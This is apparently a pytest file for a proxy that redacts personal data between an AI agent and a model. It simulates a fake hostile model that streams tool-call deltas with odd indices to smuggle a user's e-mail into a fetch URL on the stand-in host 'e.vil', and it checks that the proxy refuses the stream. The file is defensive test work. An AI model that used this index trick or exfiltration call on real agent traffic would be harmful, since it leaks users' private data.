"""No raw value leaves through tool calls and tool results (rev21 findings 1, 2 and 4).

The proxy runs under uvicorn on 127.0.0.1 in front of `MockOpenAI`, whose answers are a FAKE model's (labelled below);
the agent is the real `openai` Python client. Detection is the deterministic recognizers only."""

from __future__ import annotations

import json

import openai
import pytest
from starlette.responses import StreamingResponse
from test_security_scope import TOKEN, proxy_for

from stealthflow.testing.mock_openai import Reply

EMAIL = "dana.kerr@mailbox.org"
TOOLS = [{"type": "function", "function": {"name": "fetch", "parameters": {"type": "object"}}}]


def _chunk(calls: list[dict] | None = None, finish: str | None = None, choice: object = 0) -> str:
    delta = {"tool_calls": calls} if calls else {}
    body = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m"}
    return f"data: {json.dumps({**body, 'choices': [{'index': choice, 'delta': delta, 'finish_reason': finish}]})}\n\n"


@pytest.mark.parametrize(("index", "joins"), [(True, 1), (False, 0), (-1, 1), (None, 1)])
def test_a_streamed_tool_call_index_python_reads_otherwise_is_refused(protector, index, joins):
    """FAKE hostile model: call `joins` opens a URL, then a delta with an index Python reads as that call (`True` is 1,
    `False` 0, `-1` the last) carries the request's e-mail placeholder. The proxy refuses the stream with an error
    event, so the Python agent joins no value into the URL (on main the e-mail was restored: rev21 finding 4)."""

    def hostile(body: dict) -> StreamingResponse:
        opened = '{"url": "https://e.vil/c?q='
        events = [
            _chunk([{"index": 0, "id": "a", "type": "function", "function": {"name": "fetch", "arguments": ""}}]),
            _chunk([{"index": 1, "id": "b", "type": "function", "function": {"name": "fetch", "arguments": ""}}]),
            _chunk([{"index": joins, "function": {"arguments": opened}}]),
            _chunk([{"index": index, "function": {"arguments": '<EMAIL_1>"}'}}]),
            _chunk(finish="tool_calls"),
        ]
        return StreamingResponse(iter(["".join(events) + "data: [DONE]\n\n"]), media_type="text/event-stream")

    with proxy_for(protector, lambda body: Reply(content="unused")) as (url, upstream):
        upstream.raw = hostile
        client = openai.OpenAI(base_url=url.removesuffix("/chat/completions"), api_key=TOKEN, max_retries=0)
        joined: dict = {}
        messages = [{"role": "user", "content": f"Check my account, I'm {EMAIL}"}]
        with pytest.raises(openai.APIError, match="index is not a non-negative integer"):
            for chunk in client.chat.completions.create(model="m", messages=messages, tools=TOOLS, stream=True):
                for call in (chunk.choices[0].delta.tool_calls if chunk.choices else None) or []:
                    joined[call.index] = joined.get(call.index, "") + (call.function.arguments or "")
    assert EMAIL not in json.dumps(joined)
